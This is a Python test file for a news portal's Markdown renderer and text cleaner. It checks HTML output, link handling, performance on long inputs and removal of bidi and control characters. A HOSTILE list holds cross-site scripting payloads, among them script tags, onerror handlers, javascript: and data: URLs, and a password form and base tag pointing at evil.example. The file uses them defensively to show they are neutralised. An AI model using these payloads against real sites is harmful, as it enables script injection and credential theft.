"""Markdown: what authors write is shown, and nothing of it runs, loads or escapes."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given
from hypothesis import settings as examples
from hypothesis import strategies as st

from showfloor.portal.news.clean_text import clean_line, clean_text
from showfloor.portal.news.markdown_text import TAGS, beginning_of, html_of


def test_markdown_becomes_html_below_the_pages_own_heading() -> None:
    made = html_of("# Open\n\nIn **Köln** and [here](/news/).\n\n- one\n- two")
    assert made == (
        "<h2>Open</h2>\n<p>In <strong>Köln</strong> and "
        '<a href="/news/" rel="nofollow noopener noreferrer">here</a>.</p>\n'
        "<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n"
    )


def test_in_feeds_links_of_the_portal_are_absolute() -> None:
    made = html_of("[a](/news/) [b](https://elsewhere.example/x)", "https://portal.example/")
    assert 'href="https://portal.example/news/"' in made
    assert 'href="https://elsewhere.example/x"' in made


HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](https://tracker.example/pixel.gif)",
    '<https://a.example/"onmouseover=alert(1)>',
    "[x](https://a.example 'a\"onmouseover=alert(1)')",
    "<svg><style><img title='</style><script>alert(1)</script>'>",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "[a]: javascript:alert(1)\n\n[a]",
    "<a href='javascript:alert(1)'>x</a>",
    "<!-- --><form action=//evil.example><input name=password>",
    "<style>*{display:none}</style><base href=//evil.example>",
)


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_becomes_an_element_or_an_address(text: str) -> None:
    _is_harmless(html_of(text))


@given(st.text(st.sampled_from(list("<>&\"'[]()!`*_#:/\\ \njavscriptonerx=")), max_size=120))
@examples(max_examples=150, deadline=None)
def test_no_random_markup_becomes_more_than_allowed(text: str) -> None:
    _is_harmless(html_of(text))


def _is_harmless(made: str) -> None:
    for tag, attributes in re.findall(r"<(/?[a-zA-Z!][^\s>]*)([^>]*)>", made):
        assert tag.lstrip("/") in TAGS, made
        names = set(re.findall(r'([\w-]+)="[^"]*"', attributes))
        assert names <= {"href", "title", "rel", "start"}, made
    for address in re.findall(r'href="([^"]*)"', made):
        scheme = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", address)
        assert scheme is None or scheme[1] in {"http", "https", "mailto"}, made


@pytest.mark.parametrize("letter", ["[", "*", "> ", "`", "- ", "(", "_a", "![", "&", "\\"])
def test_a_text_of_the_greatest_length_is_read_in_a_moment(letter: str) -> None:
    text = (letter * 20_000)[:20_000]
    begin = time.process_time()
    html_of(text)
    beginning_of(text)
    assert time.process_time() - begin < 4


def test_the_beginning_is_plain_and_ends_after_a_word() -> None:
    text = "## Open\n\nIn **Köln**, [here](/x).\n\n- one\n- two\n\nAnd\n`there`."
    assert beginning_of(text) == "In Köln, here. And there."
    cut = beginning_of("word " * 200, 50)
    assert cut.endswith("word …")
    assert len(cut) <= 52


def test_marks_that_turn_text_around_are_taken_out_and_hebrew_stays() -> None:
    assert clean_line("safe\u202eevil\u2066 txt\u200f") == "safeevil txt"
    assert clean_line("שלום\nעולם") == "שלום עולם"


def test_controls_halves_and_towers_of_marks_are_taken_out() -> None:
    assert clean_text("a\x00b\x1b[31m\ud800c\ufffe") == "ab[31mc"
    assert len(clean_text("e" + "\u0301" * 500)) < 10
    assert clean_text("Zoe\u0308\r\nn\r") == "Zoë\nn"
    assert clean_text("\u202e\u2067 \u200f") == ""
